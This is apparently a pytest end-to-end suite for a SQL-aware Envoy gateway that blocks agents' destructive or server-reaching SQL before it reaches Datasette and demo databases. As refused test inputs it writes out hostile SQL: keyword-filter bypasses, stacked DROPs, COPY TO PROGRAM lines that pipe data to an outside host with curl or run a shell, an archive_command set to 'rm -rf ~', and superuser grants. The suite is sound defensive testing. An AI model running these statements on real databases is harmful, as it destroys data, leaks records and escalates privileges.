"""SQL targets end to end, through a real Envoy, decided by the default pack on parsed SQL.

Two real SQL-over-HTTP servers sit behind the gateway: Datasette 1.0 (SQLite, its
`?sql=` API, execute-write and its JSON write API, with the target's root token injected
by tollgate; `sql.paths` names where it runs SQL) and the demo upstream's `POST /sql`
(`{"sql": ...}`, SQLite, which executes writes too).
The bypasses that defeat keyword matching are refused, and the refusal happens in the
gateway: the upstream never sees the request.
"""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest

from extproc.quickstart import stack
from tests.support import tokens
from tests.support.cli import tollgate
from tests.support.gateway import Gateway, Reply, module_gateway

DBA = ["dba"]


DATASETTE_SECRET = "datasette-signing-secret-7c1d"  # signs the target's API token
# A Datasette drop that carries a decoy SELECT: in JSON, and as a form to the gateway that
# is JSON to Datasette (its drop parses any body as JSON). Each drops its own table.
FORM = "application/x-www-form-urlencoded"
DECOYS = {
    "ledger": ({"confirm": True, "sql": "select 1"}, "application/json"),
    "journal": ('{"confirm": true, "x": "&sql=select 1&"}', FORM),
}
DECOY_TABLES = tuple(DECOYS)


@dataclass(frozen=True)
class Datasette:
    port: int
    db: Path
    token: str  # a root API token (`dstok_...`): the target's credential, never the agent's

    def tables(self) -> set[str]:
        """The tables the SQLite file holds, read beside Datasette, not through it."""
        with sqlite3.connect(self.db) as conn:
            return {row[0] for row in conn.execute("SELECT name FROM sqlite_master")}

    def rows(self, table: str) -> list[tuple[object, ...]]:
        with sqlite3.connect(self.db) as conn:
            return conn.execute(f"SELECT * FROM {table} ORDER BY 1").fetchall()


@pytest.fixture(scope="module")
def datasette(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Datasette]:
    """A real Datasette 1.0 serving a SQLite file, writable through its JSON API by the
    root token it signs (`--root` gives root every permission)."""
    work = tmp_path_factory.mktemp("datasette")
    db = work / "shop.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, email TEXT, "
                     "card TEXT)")
        conn.executemany("INSERT INTO customers (name, email, card) VALUES (?, ?, ?)",
                         [("Ada", "ada@example.com", "4111111111111111"),
                          ("Grace", "grace@example.org", "5500000000000004")])
        conn.execute("CREATE TABLE archive (id INTEGER PRIMARY KEY, note TEXT)")
        conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
        conn.executemany("INSERT INTO notes (body) VALUES (?)", [("keep me",), ("and me",)])
        for table in DECOY_TABLES:
            conn.execute(f"CREATE TABLE {table} (id INTEGER PRIMARY KEY)")
    command = str(Path(sys.executable).parent / "datasette")
    port = stack.free_port()
    process = stack.Process.spawn("datasette", [
        command, "serve", str(db), "--host", "127.0.0.1", "--port", str(port),
        "--secret", DATASETTE_SECRET, "--root",
    ], work)
    try:
        process.ready_or_fail(stack.tcp_accepts(port), 30, f"accepting on port {port}")
        token = subprocess.run([command, "create-token", "root", "--secret", DATASETTE_SECRET],
                               check=True, capture_output=True, text=True).stdout.strip()
        yield Datasette(port, db, token)
    finally:
        process.stop()


@pytest.fixture(scope="module")
def gw(
    tmp_path_factory: pytest.TempPathFactory, otlp,  # type: ignore[no-untyped-def]
    datasette: Datasette,
) -> Iterator[Gateway]:
    with module_gateway(tmp_path_factory, otlp, "sql",
            targets=[
                {"name": "demo", "match": {"route": "demo"}, "protocol": "sql-http",
                 "sql": {"dialect": "sqlite"}},
                # Datasette runs the SQL it is sent on its query page and execute-write.
                {"name": "datasette", "match": {"route": "datasette"}, "protocol": "sql-http",
                 "sql": {"dialect": "sqlite", "paths": ["/datasette/*/-/query*",
                                                        "/datasette/*/-/execute-write"]},
                 "credential": {"type": "bearer", "from_env": "DATASETTE_TOKEN"}},
                {"name": "reports", "match": {"route": "reports"}, "protocol": "sql-http",
                 "sql": {"dialect": "sqlite"}, "labels": {"access": "read-only"}},
                {"name": "warehouse", "match": {"route": "warehouse"}, "protocol": "sql-http",
                 "sql": {"dialect": "postgres"}},
                {"name": "files", "match": {"route": "files"}, "protocol": "http",
                 "labels": {"access": "read-only"}},
            ],
            routes=[
                {"name": "datasette", "match": {"prefix": "/datasette/"},
                 "route": {"cluster": "datasette", "prefix_rewrite": "/"}},
                {"name": "reports", "match": {"prefix": "/reports/"},
                 "route": {"cluster": "demo_upstream", "prefix_rewrite": "/"}},
                {"name": "warehouse", "match": {"prefix": "/warehouse/"},
                 "route": {"cluster": "demo_upstream", "prefix_rewrite": "/"}},
                {"name": "files", "match": {"prefix": "/files/"},
                 "route": {"cluster": "demo_upstream", "prefix_rewrite": "/"}},
            ],
            clusters={"datasette": datasette.port},
            env={"DATASETTE_TOKEN": datasette.token},
            # Held requests wait a second for nobody (tests/e2e/test_approvals_e2e.py approves).
            settings={"approvals": {"max_hold_seconds": 1}},
    ) as running:
        yield running


def datasette_query(gw: Gateway, sql: str, groups: list[str] | None = None,
                    form: str = "json") -> Reply:
    """Datasette 1.0's query page (`/shop.json?sql=` redirects there, to a path without
    the gateway's `/datasette` prefix)."""
    return gw.request("GET", f"/datasette/shop/-/query.{form}?sql={quote(sql)}",
                      token=tokens.token(groups=groups))


def datasette_requests(gw: Gateway) -> int:
    return gw.envoy_stat("cluster.datasette.upstream_rq_total")


def test_a_select_through_datasette_is_answered_and_masked(gw: Gateway) -> None:
    reply = datasette_query(gw, "select name, email from customers order by id")
    assert reply.status == 200, reply.body
    rows = reply.json()["rows"]
    assert [r["name"] for r in rows] == ["Ada", "Grace"]
    assert "ada@example.com" not in reply.body.decode()  # agents get e-mails masked
    (span,) = gw.otlp.spans_of(reply.trace_id)
    assert span.attributes["tollgate.decision.action"] == "allow"


@pytest.mark.parametrize(("sql", "rule"), [
    ("DROP TABLE customers", "sql.destructive"),
    ("DrOp/**/TaBlE customers", "sql.destructive"),
    ("select 1; drop table customers", "sql.destructive"),
    ("select 1;\n-- harmless\nDROP TABLE customers", "sql.destructive"),
    ("DROP\u00a0TABLE customers", "sql.destructive"),
    ("DR/**/OP TABLE customers", "sql.unparseable"),
    ("this is not sql", "sql.unparseable"),
    ("ATTACH DATABASE '/tmp/x.db' AS x", "sql.server_access"),
], ids=["plain", "comment-between-keywords", "stacked", "stacked-after-comment",
        "nbsp", "comment-inside-keyword", "not-sql", "attach"])
def test_datasette_never_sees_what_the_pack_refuses(gw: Gateway, sql: str, rule: str) -> None:
    before = datasette_requests(gw)
    reply = datasette_query(gw, sql)
    assert reply.status == 403, reply.body
    assert rule in reply.json()["rules"], reply.json()
    assert datasette_requests(gw) == before


def test_a_string_literal_holding_drop_is_only_a_string(gw: Gateway) -> None:
    reply = datasette_query(gw, "select '; DROP TABLE customers; --' as s")
    assert reply.status == 200, reply.body
    assert reply.json()["rows"] == [{"s": "; DROP TABLE customers; --"}]


def test_a_datasette_page_without_sql_is_allowed(gw: Gateway) -> None:
    reply = gw.request("GET", "/datasette/shop/customers.json")
    assert reply.status == 200, reply.body
    assert len(reply.json()["rows"]) == 2


def test_delete_without_where_waits_for_approval_and_never_runs(gw: Gateway) -> None:
    before = len(gw.upstream.requests)
    reply = gw.request("POST", "/sql", {"sql": "DELETE FROM customers"})
    assert reply.status == 403
    body = reply.json()
    assert (body["error"], body["status"]) == ("approval_required", "pending")
    assert body["approval_id"].startswith("ap-")
    assert "DELETE without WHERE" in body["reasons"]
    assert body["rules"] == ["sql.unbounded_write"]
    assert len(gw.upstream.requests) == before
    rows = gw.request("POST", "/sql", {"sql": "SELECT count(*) FROM customers"}).json()["rows"]
    assert rows[0][0] > 0


def test_a_delete_hidden_in_a_cte_is_held_too(gw: Gateway) -> None:
    reply = gw.request("POST", "/sql", {
        "sql": "WITH gone AS (DELETE FROM customers RETURNING id) SELECT count(*) FROM gone",
    })
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.unbounded_write"]


def test_delete_with_where_runs(gw: Gateway) -> None:
    reply = gw.request("POST", "/sql", {"sql": "DELETE FROM customers WHERE id = -1"})
    assert reply.status == 200, reply.body


def test_only_a_dba_drops_tables(gw: Gateway) -> None:
    created = gw.request("POST", "/sql", {"sql": "CREATE TABLE scratch (x INTEGER)"})
    assert created.status == 200, created.body
    agent = gw.request("POST", "/sql", {"sql": "DROP TABLE scratch"})
    assert agent.status == 403
    assert agent.json()["reasons"] == ["destructive SQL: DROP"]
    dba = gw.request("POST", "/sql", {"sql": "DROP TABLE scratch"},
                     token=tokens.token(sub="alice", groups=DBA))
    assert dba.status == 200, dba.body


def test_the_span_shows_what_the_sql_meant(gw: Gateway) -> None:
    reply = gw.request("POST", "/sql", {"sql": "select 1; drop table customers"})
    (span,) = gw.otlp.spans_of(reply.trace_id)
    assert span.attributes["tollgate.decision.rules"] == ("sql.destructive",)
    assert span.attributes["tollgate.sql.kinds"] == ("select", "drop")


def test_a_read_only_target_runs_selects_only(gw: Gateway) -> None:
    assert gw.request("POST", "/reports/sql", {"sql": "SELECT 1"}).status == 200
    reply = gw.request("POST", "/reports/sql", {"sql": "INSERT INTO customers (name) VALUES ('x')"})
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.read_only"]


def test_sql_field_that_is_not_a_string_is_refused(gw: Gateway) -> None:
    reply = gw.request("POST", "/sql", {"sql": ["DROP TABLE customers"]})
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.unparseable"]


def test_sql_over_the_targets_limit_is_refused_unparsed(gw: Gateway) -> None:
    before = len(gw.upstream.requests)
    huge = "SELECT 1 AS x" + " UNION ALL SELECT 1" * 8000  # ~150 KiB > sql.max_bytes
    reply = gw.request("POST", "/sql", {"sql": huge})
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.unparseable"]
    assert "exceeds this target's limit of 131072 (sql.max_bytes)" in reply.json()["reasons"][0]
    assert len(gw.upstream.requests) == before


def test_more_statements_than_the_targets_limit_are_refused(gw: Gateway) -> None:
    before = len(gw.upstream.requests)
    reply = gw.request("POST", "/sql", {"sql": "SELECT 1;" * 201 + "DROP TABLE customers"})
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.unparseable"]
    assert reply.json()["reasons"] == [
        "unparseable SQL: 202 SQL statements exceed this target's limit of 200 "
        "(sql.max_statements)"
    ]
    assert len(gw.upstream.requests) == before


def test_a_large_query_is_parsed_off_the_event_loop_and_runs(gw: Gateway) -> None:
    large = "SELECT count(*) FROM customers WHERE id IN (" + ",".join(
        str(i) for i in range(6000)) + ")"  # ~29 KiB: parsed on a worker thread
    reply = gw.request("POST", "/sql", {"sql": large})
    assert reply.status == 200, reply.body
    (span,) = gw.otlp.spans_of(reply.trace_id)
    assert span.attributes["tollgate.sql.kinds"] == ("select",)


@pytest.mark.parametrize(("sql", "rule", "reason"), [
    ("COPY customers TO PROGRAM 'curl -d @- https://example.net'", "sql.copy_program",
     "COPY ... PROGRAM runs a command on the database server"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$", "sql.do_block",
     "DO blocks run code that cannot be inspected"),
    ("TRUNCATE customers", "sql.destructive", "destructive SQL: TRUNCATE"),
    ("ALTER TABLE customers DROP COLUMN email", "sql.destructive", "destructive SQL: ALTER"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "sql.server_access",
     "SELECT reaches the database server's files, programs or processes"),
    ("CHECKPOINT", "sql.unrecognised", "unrecognised SQL statement"),
    ("UPDATE customers SET email = NULL", "sql.unbounded_write", "UPDATE without WHERE"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN DROP TABLE t; END$$",
     "sql.dynamic", "CREATE runs code held in a string"),
    ("SELECT query_to_xml('DELETE FROM customers RETURNING 1', true, false, '')",
     "sql.dynamic", "SELECT runs code held in a string"),
    ("ALTER SYSTEM SET archive_command = 'rm -rf ~'", "sql.configuration",
     "ALTER changes the server's configuration"),
    ("SET standard_conforming_strings = off", "sql.setting",
     "changing standard_conforming_strings is refused: the server would read quotes and "
     "backslashes in later SQL otherwise than the policy"),
    ("ALTER ROLE CURRENT_USER SUPERUSER", "sql.privilege", "ALTER changes roles or privileges"),
    ("COPY customers TO '/tmp/customers.csv'", "sql.server_access",
     "COPY reaches the database server's files, programs or processes"),
    ("SELECT lo_unlink(16400)", "sql.destructive", "destructive SQL: SELECT"),
    ("SELECT 'a\\', 'b; DROP TABLE customers; --'", "sql.destructive", "destructive SQL: DROP"),
], ids=["copy-program", "do-block", "truncate", "alter-drop-column", "terminate-backend",
        "unrecognised", "update-without-where", "create-function", "query-to-xml",
        "alter-system", "scs-off", "alter-role-superuser", "copy-to-file", "lo-unlink",
        "backslash-hidden-drop"])
def test_postgres_statements_the_pack_refuses_an_agent(
    gw: Gateway, sql: str, rule: str, reason: str
) -> None:
    before = len(gw.upstream.requests)
    reply = gw.request("POST", "/warehouse/sql", {"sql": sql})
    assert reply.status == 403, reply.body
    assert reply.json()["rules"] == [rule]
    assert reason in reply.json()["reasons"]
    assert len(gw.upstream.requests) == before


def test_copy_program_is_refused_even_to_a_dba(gw: Gateway) -> None:
    reply = gw.request("POST", "/warehouse/sql",
                       {"sql": "COPY (SELECT 1) TO PROGRAM 'sh -c id'"},
                       token=tokens.token(sub="alice", groups=DBA))
    assert reply.status == 403
    assert reply.json()["rules"] == ["sql.copy_program"]


def test_an_additive_alter_is_allowed(gw: Gateway) -> None:
    reply = gw.request("POST", "/warehouse/sql",
                       {"sql": "ALTER TABLE customers ADD COLUMN nickname TEXT"})
    assert reply.status == 200, reply.body


def test_a_read_only_sql_target_refuses_a_select_that_writes(gw: Gateway) -> None:
    before = len(gw.upstream.requests)
    reply = gw.request("POST", "/reports/sql", {"sql": "SELECT setval('s', 1)"})
    assert reply.status == 403
    assert "SELECT on a read-only target" in reply.json()["reasons"]
    assert len(gw.upstream.requests) == before


def test_an_http_target_labelled_read_only_takes_no_writes(gw: Gateway) -> None:
    assert gw.request("GET", "/files/echo").status == 200
    reply = gw.request("PUT", "/files/echo", {"name": "x"})
    assert reply.status == 403
    assert reply.json() == {"error": "denied", "reasons": ["PUT on a read-only target"],
                            "rules": ["http.read_only"], "trace_id": reply.trace_id}


# -- Datasette 1.0's JSON write API: writes that carry no SQL ----------------------------


def dba_token() -> str:
    return tokens.token(sub="alice", groups=DBA)


def unread_write(reply: Reply, method: str, path: str) -> bool:
    """The refusal of a write without SQL, naming its method and path."""
    return reply.status == 403 and reply.json() == {
        "error": "denied", "rules": ["sql.unread_write"], "trace_id": reply.trace_id,
        "reasons": [f"{method} {path} may write and carries no SQL to judge"],
    }


def test_only_a_dba_drops_a_table_through_datasettes_write_api(
    gw: Gateway, datasette: Datasette
) -> None:
    """`{"confirm": true}` is all the body says: the same DROP sent as SQL gets the same
    answer (test_datasette_never_sees_what_the_pack_refuses)."""
    path = "/datasette/shop/archive/-/drop"
    before = datasette_requests(gw)
    agent = gw.request("POST", path, {"confirm": True})
    assert unread_write(agent, "POST", path), agent.body
    assert datasette_requests(gw) == before
    assert "archive" in datasette.tables()
    dba = gw.request("POST", path, {"confirm": True}, token=dba_token())
    assert dba.status == 200, dba.body
    assert dba.json() == {"ok": True}
    assert "archive" not in datasette.tables()


def test_only_a_dba_inserts_rows_through_datasettes_write_api(
    gw: Gateway, datasette: Datasette
) -> None:
    path = "/datasette/shop/notes/-/insert"
    before = datasette.rows("notes")
    agent = gw.request("POST", path, {"row": {"body": "from an agent"}})
    assert unread_write(agent, "POST", path), agent.body
    assert datasette.rows("notes") == before
    dba = gw.request("POST", path, {"row": {"body": "from a dba"}}, token=dba_token())
    assert dba.status == 201, dba.body
    assert [row[1] for row in datasette.rows("notes")] == [*(r[1] for r in before), "from a dba"]


def test_sql_in_the_query_string_does_not_make_a_write_read(
    gw: Gateway, datasette: Datasette
) -> None:
    """Datasette deletes the row and ignores `?sql=` on a write: read as the SELECT it
    carries, the delete would pass."""
    before = datasette.rows("notes")
    reply = gw.request("POST", "/datasette/shop/notes/1/-/delete?sql=select+1")
    assert unread_write(reply, "POST", "/datasette/shop/notes/1/-/delete"), reply.body
    assert datasette.rows("notes") == before


@pytest.mark.parametrize("form", ["form", "json"])
def test_sql_in_a_writes_body_is_judged_by_its_statements(
    gw: Gateway, datasette: Datasette, form: str
) -> None:
    """Datasette's execute-write, on the target's `sql.paths`, runs the SQL of a form or
    JSON body, which the target reads."""
    path = "/datasette/shop/-/execute-write"

    def send(sql: str) -> Reply:
        if form == "json":
            return gw.request("POST", path, {"sql": sql})
        return gw.request("POST", path, f"sql={quote(sql)}",
                          {"content-type": FORM, "accept": "application/json"})

    dropped = send("DROP TABLE notes")
    assert dropped.status == 403
    assert dropped.json()["rules"] == ["sql.destructive"]
    assert "notes" in datasette.tables()
    inserted = send(f"INSERT INTO notes (body) VALUES ('{form}')")
    assert inserted.status == 200, inserted.body
    assert datasette.rows("notes")[-1][1] == form


@pytest.mark.parametrize("table", DECOY_TABLES)
def test_a_decoy_select_does_not_carry_a_drop_past_the_gateway(
    gw: Gateway, datasette: Datasette, table: str
) -> None:
    """Off the target's `sql.paths` the SQL a write carries is not what it runs: the
    agent's drop is refused as one without SQL; the same request from a dba shows that
    Datasette ignores the SELECT and drops the table."""
    body, content_type = DECOYS[table]
    path = f"/datasette/shop/{table}/-/drop"
    before = datasette_requests(gw)
    agent = gw.request("POST", path, body, {"content-type": content_type})
    assert unread_write(agent, "POST", path), agent.body
    assert datasette_requests(gw) == before
    assert table in datasette.tables()
    dba = gw.request("POST", path, body, {"content-type": content_type}, token=dba_token())
    assert dba.status == 200, dba.body
    assert table not in datasette.tables()


def test_tollgate_warns_of_sql_targets_without_paths(gw: Gateway) -> None:
    """A target without `sql.paths` takes a write's SQL for what it runs on every path."""
    def warned() -> bool:
        return "target warehouse: no sql.paths" in gw.tollgate.tail(10_000)

    stack.wait_until(warned, 10, "the warning in tollgate's log")
    assert "target datasette: no sql.paths" not in gw.tollgate.tail(10_000)


def test_a_card_number_in_a_csv_export_is_masked(gw: Gateway) -> None:
    reply = datasette_query(gw, "select id, card from customers order by id", form="csv")
    assert reply.status == 200, reply.body
    text = reply.body.decode()
    assert text.splitlines() == ["id,card", "1,[REDACTED:CREDIT_CARD]",
                                 "2,[REDACTED:CREDIT_CARD]"], text


def test_a_drop_sent_through_a_query_parameter_is_recorded_as_the_drop(gw: Gateway) -> None:
    """What the record, and every page and listing reading it, says the exchange did: the
    statement sent in `?sql=`, not the page it was sent to."""
    reply = datasette_query(gw, "DROP TABLE customers")
    assert reply.status == 403
    found: list[dict[str, object]] = []

    def recorded() -> bool:
        # The exchange's own record: an administrative act also raises an alert, a
        # record of its own under the same trace, written in either order.
        found[:] = [r for r in gw.records()
                    if r["trace_id"] == reply.trace_id and r["kind"] == "exchange"]
        return bool(found)

    stack.wait_until(recorded, 10, "the refusal's record")
    assert found[0]["what"] == "DROP TABLE customers"
    listed = tollgate("audit", "search", "--action", "deny", "--config", gw.config_path)
    assert listed.returncode == 0, listed
    (row,) = [r for r in listed.stdout.splitlines() if str(reply.trace_id) in r]
    assert " DROP TABLE customers " in row and "/datasette" not in row
